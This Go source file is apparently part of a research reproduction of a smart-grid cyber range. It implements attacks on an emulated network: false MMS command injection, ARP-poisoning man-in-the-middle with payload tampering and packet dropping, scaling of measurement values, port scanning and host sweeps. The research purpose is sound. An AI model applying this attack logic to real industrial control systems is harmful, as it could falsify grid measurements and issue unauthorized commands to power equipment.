// Package attack implements the cyber attack case studies of §IV-B.
//
// "Among a wide range of attack vectors, we focus on false command injection
// and man-in-the-middle attacks. The former can cause direct and immediate
// impact on power grid stability as demonstrated in the 2015 Ukraine
// incident, and the latter is a versatile building block for mounting a wide
// range of attacks, such as false data injection and alarm suppression."
//
// FCI sends standard-compliant MMS commands from a compromised node (the
// IEC61850bean / CrashOverride pattern); MITM uses real ARP cache poisoning
// plus IP forwarding with byte-level payload tampering (Fig 6). Recon
// helpers mirror the "Nmap on a virtual node" usage the paper mentions.
package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"math"
	"sync"
	"time"

	"repro/internal/mms"
	"repro/internal/netem"
)

// FCI is the false-command-injection attacker: a plain MMS client on a
// compromised node.
type FCI struct {
	host *netem.Host

	mu       sync.Mutex
	injected uint64
}

// NewFCI creates the attacker on a compromised host.
func NewFCI(host *netem.Host) *FCI { return &FCI{host: host} }

// Enumerate opens an association and lists the victim's object model — the
// reconnaissance step before crafting commands.
func (a *FCI) Enumerate(ip netem.IPv4, port uint16) ([]string, error) {
	cli, err := mms.Dial(a.host, ip, port, mms.DialOptions{Vendor: "iec61850bean"})
	if err != nil {
		return nil, err
	}
	defer cli.Close()
	return cli.GetNameList("")
}

// InjectCommand opens a fresh association and writes a control value — a
// fully standard-compliant MMS exchange, indistinguishable from a legitimate
// master (which is the point of the case study).
func (a *FCI) InjectCommand(ip netem.IPv4, port uint16, ref mms.ObjectReference, v mms.Value) error {
	cli, err := mms.Dial(a.host, ip, port, mms.DialOptions{Vendor: "iec61850bean"})
	if err != nil {
		return err
	}
	defer cli.Close()
	if err := cli.Write(ref, v); err != nil {
		return fmt.Errorf("attack: inject %s: %w", ref, err)
	}
	a.mu.Lock()
	a.injected++
	a.mu.Unlock()
	return nil
}

// Injected reports successful command injections.
func (a *FCI) Injected() uint64 {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.injected
}

// MITM is the ARP-spoofing man-in-the-middle position between two victims.
type MITM struct {
	host    *netem.Host
	victimA netem.IPv4
	victimB netem.IPv4
	macA    netem.MAC
	macB    netem.MAC

	mu        sync.Mutex
	forwarded uint64
	modified  uint64
	dropped   uint64
	tamper    func([]byte) ([]byte, bool) // TCP/UDP payload rewrite
	dropAll   bool
	cancel    context.CancelFunc
	done      chan struct{}
}

// poisonInterval is the MITM's ARP re-poisoning period.
const poisonInterval = 500 * time.Millisecond

// NewMITM prepares a MITM between victims A and B from the attacker host.
func NewMITM(host *netem.Host, victimA, victimB netem.IPv4) *MITM {
	return &MITM{host: host, victimA: victimA, victimB: victimB}
}

// SetPayloadTamper installs a transport-payload rewrite applied to traffic
// crossing the attacker. Returning ok=false drops the packet. The rewrite
// must preserve length (our TCP-lite victims track byte counts).
func (m *MITM) SetPayloadTamper(fn func(payload []byte) ([]byte, bool)) {
	m.mu.Lock()
	m.tamper = fn
	m.mu.Unlock()
}

// SetBlackhole makes the attacker drop intercepted traffic instead of
// forwarding (denial of visibility / alarm suppression building block).
func (m *MITM) SetBlackhole(drop bool) {
	m.mu.Lock()
	m.dropAll = drop
	m.mu.Unlock()
}

// Start resolves the victims' true MACs, begins periodic cache poisoning and
// enables tampering IP forwarding.
func (m *MITM) Start(ctx context.Context) error {
	macA, err := m.host.ResolveARP(m.victimA, 2*time.Second)
	if err != nil {
		return fmt.Errorf("attack: resolve victim A: %w", err)
	}
	macB, err := m.host.ResolveARP(m.victimB, 2*time.Second)
	if err != nil {
		return fmt.Errorf("attack: resolve victim B: %w", err)
	}
	m.mu.Lock()
	m.macA, m.macB = macA, macB
	m.mu.Unlock()

	m.host.SetForwarding(true, m.forward)
	m.poison()

	runCtx, cancel := context.WithCancel(ctx)
	done := make(chan struct{})
	m.mu.Lock()
	m.cancel = cancel
	m.done = done
	m.mu.Unlock()
	go func() {
		defer close(done)
		ticker := time.NewTicker(poisonInterval)
		defer ticker.Stop()
		for {
			select {
			case <-runCtx.Done():
				return
			case <-ticker.C:
				m.poison()
			}
		}
	}()
	return nil
}

// Stop halts poisoning, disables forwarding and heals the victims' caches
// with corrective ARP replies carrying the true MACs.
func (m *MITM) Stop() {
	m.mu.Lock()
	cancel, done := m.cancel, m.done
	m.cancel = nil
	macA, macB := m.macA, m.macB
	m.mu.Unlock()
	if cancel != nil {
		cancel()
		<-done
	}
	m.host.SetForwarding(false, nil)
	// Heal: tell A the truth about B and vice versa.
	m.sendARPReply(m.victimB, macB, m.victimA, macA)
	m.sendARPReply(m.victimA, macA, m.victimB, macB)
}

// poison sends forged ARP replies: "A is at attacker-MAC" to B and
// "B is at attacker-MAC" to A.
func (m *MITM) poison() {
	me := m.host.MAC()
	m.mu.Lock()
	macA, macB := m.macA, m.macB
	m.mu.Unlock()
	m.sendARPReply(m.victimB, me, m.victimA, macA) // to A: B's IP -> attacker MAC
	m.sendARPReply(m.victimA, me, m.victimB, macB) // to B: A's IP -> attacker MAC
}

// sendARPReply emits a unicast ARP reply claiming spoofedIP is at spoofedMAC.
func (m *MITM) sendARPReply(spoofedIP netem.IPv4, spoofedMAC netem.MAC, targetIP netem.IPv4, targetMAC netem.MAC) {
	pkt := netem.ARPPacket{
		Op:        netem.ARPReply,
		SenderMAC: spoofedMAC, SenderIP: spoofedIP,
		TargetMAC: targetMAC, TargetIP: targetIP,
	}
	m.host.SendFrame(netem.Frame{
		Dst: targetMAC, Src: m.host.MAC(), EtherType: netem.EtherTypeARP, Payload: pkt.Marshal(),
	})
}

// forward is the IP-forwarding tamper hook: only traffic between the two
// victims is intercepted; everything else passes untouched.
func (m *MITM) forward(pkt netem.IPPacket) (netem.IPPacket, bool) {
	between := (pkt.Src == m.victimA && pkt.Dst == m.victimB) ||
		(pkt.Src == m.victimB && pkt.Dst == m.victimA)
	if !between {
		return pkt, true
	}
	m.mu.Lock()
	tamper := m.tamper
	drop := m.dropAll
	m.mu.Unlock()
	if drop {
		m.mu.Lock()
		m.dropped++
		m.mu.Unlock()
		return pkt, false
	}
	if tamper != nil {
		if rewritten, ok := m.tamperTransport(pkt, tamper); ok {
			pkt = rewritten
		} else {
			m.mu.Lock()
			m.dropped++
			m.mu.Unlock()
			return pkt, false
		}
	}
	m.mu.Lock()
	m.forwarded++
	m.mu.Unlock()
	return pkt, true
}

// tamperTransport applies the payload rewrite beneath TCP/UDP headers.
func (m *MITM) tamperTransport(pkt netem.IPPacket, fn func([]byte) ([]byte, bool)) (netem.IPPacket, bool) {
	const tcpHeader = 20
	const udpHeader = 8
	var headerLen int
	switch pkt.Protocol {
	case netem.IPProtoTCP:
		if len(pkt.Payload) < tcpHeader {
			return pkt, true
		}
		headerLen = int(pkt.Payload[12]>>4) * 4
		if headerLen < tcpHeader || headerLen > len(pkt.Payload) {
			return pkt, true
		}
	case netem.IPProtoUDP:
		headerLen = udpHeader
		if len(pkt.Payload) < udpHeader {
			return pkt, true
		}
	default:
		return pkt, true
	}
	payload := pkt.Payload[headerLen:]
	if len(payload) == 0 {
		return pkt, true
	}
	rewritten, ok := fn(append([]byte(nil), payload...))
	if !ok {
		return pkt, false
	}
	if len(rewritten) != len(payload) {
		// Length changes would desynchronise TCP sequence space.
		return pkt, true
	}
	changed := false
	for i := range rewritten {
		if rewritten[i] != payload[i] {
			changed = true
			break
		}
	}
	if changed {
		newPayload := append([]byte(nil), pkt.Payload[:headerLen]...)
		newPayload = append(newPayload, rewritten...)
		pkt.Payload = newPayload
		m.mu.Lock()
		m.modified++
		m.mu.Unlock()
	}
	return pkt, true
}

// Stats reports forwarded, modified and dropped packet counts.
func (m *MITM) Stats() (forwarded, modified, dropped uint64) {
	m.mu.Lock()
	defer m.mu.Unlock()
	return m.forwarded, m.modified, m.dropped
}

// ScaleMMSFloats returns a payload tamper that multiplies every MMS
// double-precision float TLV (tag 0x87, length 9) found in the stream by
// factor — the Fig 6 measurement manipulation. The rewrite is
// length-preserving, so TCP sequencing is unaffected.
func ScaleMMSFloats(factor float64) func([]byte) ([]byte, bool) {
	return func(payload []byte) ([]byte, bool) {
		for i := 0; i+2+9 <= len(payload); i++ {
			if payload[i] == 0x87 && payload[i+1] == 9 && payload[i+2] == 11 {
				bits := binary.BigEndian.Uint64(payload[i+3 : i+11])
				v := math.Float64frombits(bits)
				binary.BigEndian.PutUint64(payload[i+3:i+11], math.Float64bits(v*factor))
				i += 10
			}
		}
		return payload, true
	}
}

// ScanResult is one discovered open port.
type ScanResult struct {
	Port uint16
	Open bool
}

// ScanPorts performs a TCP connect scan against ip (the "penetration testing
// tool like Nmap" usage of §IV-B).
func ScanPorts(h *netem.Host, ip netem.IPv4, ports []uint16) []ScanResult {
	out := make([]ScanResult, 0, len(ports))
	for _, p := range ports {
		conn, err := h.DialTCP(ip, p)
		open := err == nil
		if open {
			_ = conn.Close()
		}
		out = append(out, ScanResult{Port: p, Open: open})
	}
	return out
}

// ARPSweep discovers live hosts in the given last-octet range of a /24.
func ARPSweep(h *netem.Host, base netem.IPv4, from, to byte, perHost time.Duration) []netem.IPv4 {
	var alive []netem.IPv4
	for last := from; last <= to; last++ {
		ip := base
		ip[3] = last
		if ip == h.IP() {
			continue
		}
		if _, err := h.ResolveARP(ip, perHost); err == nil {
			alive = append(alive, ip)
		}
		if last == 255 {
			break
		}
	}
	return alive
}
